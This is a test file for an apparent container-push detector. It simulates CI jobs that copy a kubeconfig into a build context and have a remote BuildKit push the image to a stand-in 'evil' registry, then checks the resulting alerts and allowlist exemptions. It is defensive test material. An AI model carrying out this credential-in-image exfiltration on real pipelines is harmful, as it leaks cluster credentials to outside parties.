/**
 * Builds whose image a BuildKit in another pod pushes (red-team review): buildx's remote and kubernetes
 * drivers, `buildctl --addr tcp://buildkitd:1234`. The job's client reads the context (a kubeconfig copied
 * into it) and sends it to buildkitd, which builds and uploads from its own container. The push is
 * recognised from the client's argv, in the job's container where the reads were; buildkitd's upload is a
 * push by egress of its own (the ADS's daemon entry exempts it). The client's connections go to the
 * builder, never to the registry: they named buildctl's destination, exempted the push under a CIDR entry
 * for an internal registry's range holding the builder's address, and taught the builder's address as the
 * registry's.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import { MiB, type Proc, run, runResolved, Scenario } from './builder.js';

const GHCR = '140.82.121.33';
const BUILDKITD = '10.96.7.20';
const APISERVER = '10.96.0.1';
type Client = 'buildx-remote' | 'buildx-kubernetes' | 'buildctl';

const summary = (alerts: readonly Alert[]) =>
  alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool, a.push.destination]);

/** The job copies a kubeconfig into the context and builds it on buildkitd, which pushes `image`. */
function remoteBuild(source: 'tetragon' | 'falco', client: Client, o: { image?: string; registryIp?: string } = {}) {
  const image = o.image ?? 'ghcr.io/evil/x:1';
  const registryIp = o.registryIp ?? GHCR;
  const s = new Scenario({ source });
  const job = s.container({ namespace: 'ci', pod: 'job-1', name: 'job', image: 'docker.io/library/docker:27' });
  const bkc = s.container({
    namespace: 'buildkit',
    pod: 'buildkitd-0',
    name: 'buildkitd',
    image: 'docker.io/moby/buildkit:v0.17.0',
  });
  const buildkitd = s.init(bkc, '/usr/bin/buildkitd', '--addr tcp://0.0.0.0:1234');
  const sh = s.init(job);
  const cp = s.exec(job, '/bin/cp', '-r /root/.kube ctx/', { parent: sh });
  s.read(cp, '/root/.kube/config', 5_000).exit(cp).wait(1_000);
  let p: Proc;
  if (client === 'buildctl') {
    const args = `--addr tcp://buildkitd.buildkit:1234 build --frontend dockerfile.v0 --local context=ctx --local dockerfile=. --output type=image,name=${image},push=true`;
    p = s.exec(job, '/usr/bin/buildctl', args, { parent: sh });
  } else {
    const args = `buildx build --push -t ${image} ctx/`;
    const docker = s.exec(job, '/usr/local/bin/docker', args, { parent: sh });
    p = s.wait(5).exec(job, '/usr/local/libexec/docker/cli-plugins/docker-buildx', args, { parent: docker });
  }
  s.read(p, '/builds/ctx/.kube/config', 5_000);
  const [ip, port] = client === 'buildx-kubernetes' ? [APISERVER, 443] : [BUILDKITD, 1234];
  s.connect(p, ip, port)
    .send(p, ip, port, 2 * MiB)
    .wait(500);
  s.readMany(buildkitd, '/var/lib/buildkit/runc-overlayfs/snapshots/snapshots/13/fs/data', 20, 100_000);
  s.connect(buildkitd, registryIp, 443).send(buildkitd, registryIp, 443, 3 * MiB);
  s.wait(2_000).exit(p).wait(60_000);
  return s.events;
}

const clients: Client[] = ['buildx-remote', 'buildx-kubernetes', 'buildctl'];

describe('builds pushed by a BuildKit in another pod', () => {
  for (const source of ['tetragon', 'falco'] as const)
    it(`are judged in the job's container, with the image's registry (${source})`, async () => {
      for (const client of clients) {
        const tool = client === 'buildctl' ? 'buildkit' : 'docker';
        expect(summary((await runResolved(remoteBuild(source, client))).alerts), client).toEqual([
          ['sensitive-read-then-push', 'high', 'job', tool, 'ghcr.io'],
          ['renamed-binary-push', 'medium', 'buildkitd', 'buildkitd', 'ghcr.io'],
        ]);
      }
    });

  it("with the docker-container driver, buildkitd is a container of the node's daemon, not bridged", async () => {
    const s = new Scenario();
    const job = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
    const bkc = s.container({ namespace: null, name: 'buildx_buildkit_ci0', image: 'moby/buildkit:buildx-stable-1' });
    const buildkitd = s.init(bkc, '/usr/bin/buildkitd', '--allow-insecure-entitlement=network.host');
    const sh = s.init(job);
    s.read(sh, '/root/.kube/config', 5_000).wait(1_000);
    const docker = s.exec(job, '/usr/local/bin/docker', 'buildx build --push -t ghcr.io/evil/x:1 ctx/', { parent: sh });
    s.wait(500)
      .connect(buildkitd, GHCR, 443)
      .send(buildkitd, GHCR, 443, 3 * MiB);
    s.wait(2_000).exit(docker).wait(60_000);
    const { alerts } = await runResolved(s.events);
    expect(summary(alerts)).toEqual([
      ['sensitive-read-then-push', 'high', 'job', 'docker', 'ghcr.io'],
      ['renamed-binary-push', 'medium', 'buildx_buildkit_ci0', 'buildkitd', 'ghcr.io'],
    ]);
    expect(alerts[1]!.pod).toBeNull();
  });

  it('a CIDR entry for an internal range holding the builder does not exempt a push to another registry', async () => {
    const allowlist = [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'internal Harbor' }];
    for (const client of clients)
      expect(summary((await runResolved(remoteBuild('tetragon', client), { allowlist })).alerts), client).toEqual([
        ['sensitive-read-then-push', 'high', 'job', client === 'buildctl' ? 'buildkit' : 'docker', 'ghcr.io'],
        ['renamed-binary-push', 'medium', 'buildkitd', 'buildkitd', 'ghcr.io'],
      ]);
  });

  it("a build the node's docker daemon pushes into the range stays exempt, its credential helper's requests beside it", () => {
    const s = new Scenario();
    const job = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
    const sh = s.init(job);
    s.readMany(sh, '/builds/app', 80, MiB);
    const args = 'buildx build --push -t harbor.corp.example/app/api:1 .';
    const docker = s.exec(job, '/usr/local/bin/docker', args, { parent: sh });
    const helper = s.exec(job, '/usr/local/bin/docker-credential-corp', 'get', { parent: docker });
    s.connect(helper, '10.20.0.5', 443).send(helper, '10.20.0.5', 443, 2_000).exit(helper);
    const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
    s.wait(300)
      .connect(dockerd, '10.20.0.5', 443)
      .send(dockerd, '10.20.0.5', 443, 90 * MiB);
    s.wait(2_000).exit(docker).wait(60_000);
    const allowlist = [{ namespace: 'ci', destination: '10.20.0.0/16', reason: 'internal Harbor' }];
    expect(run(s.events).alerts).toHaveLength(1);
    expect(run(s.events, { allowlist }).alerts).toEqual([]);
  });

  it("a host entry naming the registry exempts the job's build, buildctl's too", async () => {
    const allowlist = [
      { namespace: 'ci', destination: 'harbor.corp.example', reason: 'CI builds to Harbor' },
      { namespace: 'buildkit', image: 'docker.io/moby/buildkit:*', binary: '/usr/bin/buildkitd', reason: 'BuildKit' },
    ];
    const config = { destinations: { internal: ['harbor.corp.example', '10.20.0.0/16'] } };
    for (const client of clients) {
      const events = remoteBuild('tetragon', client, {
        image: 'harbor.corp.example/app/api:1',
        registryIp: '10.20.0.5',
      });
      expect((await runResolved(events, { allowlist, config })).alerts, client).toEqual([]);
    }
  });

  it("a builder on a public address is not taught as the registry's", async () => {
    const BUILD_CLOUD = '34.120.1.9';
    const s = new Scenario();
    const job = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
    const sh = s.init(job);
    const args = 'buildx build --push -t ghcr.io/acme/app:1 .';
    const docker = s.exec(job, '/usr/local/bin/docker', args, { parent: sh });
    s.connect(docker, BUILD_CLOUD, 443).send(docker, BUILD_CLOUD, 443, 200_000).wait(2_000).exit(docker);
    // Another job builds without pushing on the same builder: its context is no upload to ghcr.io.
    const other = s.container({ namespace: 'ci', pod: 'job-2', name: 'job' });
    const sh2 = s.init(other);
    const build = s.wait(5_000).exec(other, '/usr/local/bin/docker', 'buildx build -t app .', { parent: sh2 });
    s.connect(build, BUILD_CLOUD, 443)
      .send(build, BUILD_CLOUD, 443, 30 * MiB)
      .wait(1_000)
      .exit(build)
      .wait(60_000);
    expect(summary((await runResolved(s.events)).alerts)).toEqual([
      ['push-without-reads', 'low', 'job', 'docker', 'ghcr.io'],
    ]);
  });
});
